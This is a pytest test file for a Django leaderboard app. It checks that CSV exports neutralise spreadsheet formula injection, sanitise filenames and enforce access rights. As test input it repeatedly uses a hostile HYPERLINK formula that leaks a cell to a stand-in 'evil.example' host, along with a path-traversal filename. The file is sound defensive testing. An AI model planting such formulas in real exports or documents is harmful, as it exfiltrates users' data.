"""CSV exports: cells a spreadsheet would run as formulas are neutralised, in every export."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from config.spreadsheets import csv_response, safe_cell, safe_filename
from leaderboard import activity
from leaderboard.models import ActivityEvent

from .factories import make_deal, make_rep_profile

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'


def read_csv(response) -> list[list[str]]:
    """The rows a spreadsheet would get from a CSV download."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1-555-0100", "'+1-555-0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Acme = best", "Acme = best"),
        ("-12.50", "-12.50"),
        (-3, -3),
        (Decimal("-4.25"), Decimal("-4.25")),
        (None, ""),
    ],
)
def test_cells_that_start_a_formula_get_an_apostrophe_and_numbers_stay_numbers(value, written):
    assert safe_cell(value) == written


def test_download_name_keeps_only_safe_characters():
    assert safe_filename('deals "x"\r\n; evil.csv') == "deals-x-evil.csv"
    assert safe_filename("../../etc/passwd") == "etc-passwd.csv"
    response = csv_response(["a"], [[EVIL]], filename="report 2026-01-01")
    assert response["Content-Disposition"] == 'attachment; filename="report-2026-01-01.csv"'
    assert read_csv(response) == [["a"], ["'" + EVIL]]


@pytest.fixture
def evil_team(rep, other_rep):
    make_rep_profile(rep, team=EVIL)
    make_rep_profile(other_rep, team="West")
    activity.record(ActivityEvent.Verb.SHARED_TIP, actor=rep, owner=rep)
    make_deal("D-1", owner=rep, amount="25000.00")
    return rep


def test_leaderboard_export_neutralises_a_formula_team_name(manager_client, evil_team):
    rows = read_csv(manager_client.get(reverse("leaderboard_csv")))
    header, *body = rows
    by_user = {row[header.index("username")]: row for row in body}
    assert by_user["rep"][header.index("team")] == "'" + EVIL
    assert by_user["rep"][header.index("closed_won_revenue")] == "25000.00"
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_each_table_a_manager_reads_links_its_export(manager_client, evil_team):
    """The download link sits on the page whose table it exports."""
    from .factories import make_challenge

    pages = {
        reverse("leaderboard"): reverse("leaderboard_csv"),
        reverse("leaderboard_rep", args=["rep"]): reverse("leaderboard_rep_deals_csv", args=["rep"]),
        reverse("leaderboard_analysis"): reverse("leaderboard_analysis_csv"),
        reverse("search_terms_report"): reverse("search_terms_csv"),
    }
    make_deal("U-1", owner=None, owner_name="Old Owner")
    pages[reverse("leaderboard_owners")] = reverse("leaderboard_owners_csv")
    challenge = make_challenge(created_by=evil_team)
    pages[challenge.get_absolute_url()] = reverse("pitch_averages_csv", args=[challenge.pk])
    for page, export in pages.items():
        response = manager_client.get(page)
        assert response.status_code == 200, page
        assert f'href="{export}' in response.content.decode(), page


def test_drill_down_deals_export_lists_the_closed_deals(manager_client, evil_team):
    make_deal("D-2", owner=evil_team, amount="900.00", status="lost", name=EVIL)
    make_deal("D-3", owner=evil_team, amount="5.00", status="open")
    header, *rows = read_csv(manager_client.get(reverse("leaderboard_rep_deals_csv", args=["rep"]), {"period": "ytd"}))
    assert header[:3] == ["crm_id", "deal", "account"]
    assert sorted((row[0], row[1], row[4], row[6]) for row in rows) == [
        ("D-1", "Deal D-1", "Won", "25000.00"),
        ("D-2", "'" + EVIL, "Lost", "900.00"),
    ]


def test_analysis_export_has_one_row_per_rep_and_needs_revenue_rights(manager_client, rep_client, evil_team):
    evil_team.first_name = EVIL
    evil_team.save()
    header, *rows = read_csv(manager_client.get(reverse("leaderboard_analysis_csv")))
    assert header == [
        "rep",
        "username",
        "sharing_score",
        "closed_won_revenue",
        "tenure_years",
        "tenure",
        "currency",
    ]
    by_user = {row[1]: row for row in rows}
    assert set(by_user) == {"rep", "peer"}
    assert by_user["rep"][0] == "'" + EVIL
    assert by_user["rep"][3] == "25000.00"
    assert rep_client.get(reverse("leaderboard_analysis_csv")).status_code == 403


def test_unmapped_owners_export_needs_import_rights(manager_client, rep_client):
    make_deal("U-1", owner=None, owner_name=EVIL, amount="300.00")
    make_deal("U-2", owner=None, owner_name=EVIL, amount="200.00")
    make_deal("U-3", owner=None, owner_name="Old Owner", amount="50.00")
    rows = read_csv(manager_client.get(reverse("leaderboard_owners_csv")))
    assert rows == [
        ["owner_name", "deals", "amount", "currency", "deals_without_rate"],
        ["'" + EVIL, "2", "500.00", "USD", "0"],
        ["Old Owner", "1", "50.00", "USD", "0"],
    ]
    assert rep_client.get(reverse("leaderboard_owners_csv")).status_code == 403


def test_search_terms_export_lists_every_term_for_marketing_only(marketer, rep_client, rep):
    from django.test import Client

    from knowledge.sitesearch.models import SearchLog

    for query, found in [(EVIL, 0), (EVIL, 0), ("pricing", 3)]:
        SearchLog.objects.create(query=query, normalized_query=SearchLog.normalize(query), result_count=found, user=rep)
    client = Client()
    client.force_login(marketer)
    header, *rows = read_csv(client.get(reverse("search_terms_csv"), {"days": "7"}))
    assert header == ["search", "times", "found_nothing", "last_searched"]
    assert [row[:3] for row in rows] == [
        ["'" + SearchLog.normalize(EVIL), "2", "2"],
        ["pricing", "1", "0"],
    ]
    assert rep_client.get(reverse("search_terms_csv")).status_code in (302, 403)


def test_pitch_averages_export_for_managers_only(manager, manager_client, rep, rep_client, other_rep):
    from coaching.pitches import review_pitch

    from .factories import make_challenge, make_submission

    challenge = make_challenge(created_by=manager, criteria=("Clarity", EVIL))
    clarity, evil = challenge.criteria.all()
    review_pitch(
        make_submission(challenge, submitter=rep),
        reviewer=other_rep,
        scores={clarity.pk: 4, evil.pk: 2},
        comment="Good pace.",
    )
    rows = read_csv(manager_client.get(reverse("pitch_averages_csv", args=[challenge.pk])))
    assert rows == [
        ["rep", "username", "Clarity", "'" + EVIL, "overall", "reviews"],
        ["Rep", "rep", "4.00", "2.00", "3.00", "1"],
    ]
    response = rep_client.get(reverse("pitch_averages_csv", args=[challenge.pk]))
    assert response.status_code == 403


@pytest.mark.parametrize("count", [1, 15])
def test_exports_cost_the_same_queries_for_few_rows_as_for_many(
    manager_client, evil_team, count, django_assert_num_queries
):
    """No query per row (an N+1) in the drill-down deals, unmapped owners or analysis exports."""
    for number in range(count):
        make_deal(f"N-{number}", owner=evil_team, amount="10.00")
        make_deal(f"O-{number}", owner=None, owner_name=f"Former owner {number}")
    # Warm: session, user, then the export's own reads (deals; owners; settings, reps, today's
    # counts and rates for the analysis, whose deals, influence and earlier days are cached).
    exports = [
        (reverse("leaderboard_rep_deals_csv", args=["rep"]), count + 1, 6),
        (reverse("leaderboard_owners_csv"), count, 5),
        (reverse("leaderboard_analysis_csv"), 2, 6),
    ]
    for url, _rows, _queries in exports:
        read_csv(manager_client.get(url))  # the site and permissions reach the cache
    for url, rows, queries in exports:
        with django_assert_num_queries(queries):
            assert len(read_csv(manager_client.get(url))) == rows + 1


def test_wagtails_own_report_exports_neutralise_a_rep_written_title(db, rep):
    """A tip a rep titled like a formula reaches the admin's aging-pages CSV as text."""
    from django.contrib.auth import get_user_model
    from django.test import Client

    from .factories import make_tip

    make_tip(EVIL, author=rep)
    admin = get_user_model().objects.create_superuser("root", "root@example.com", "x")
    client = Client()
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(content)))
    titles = [row[0] for row in rows[1:]]
    assert "'" + EVIL in titles
    assert not any(cell.startswith("=") for row in rows for cell in row)
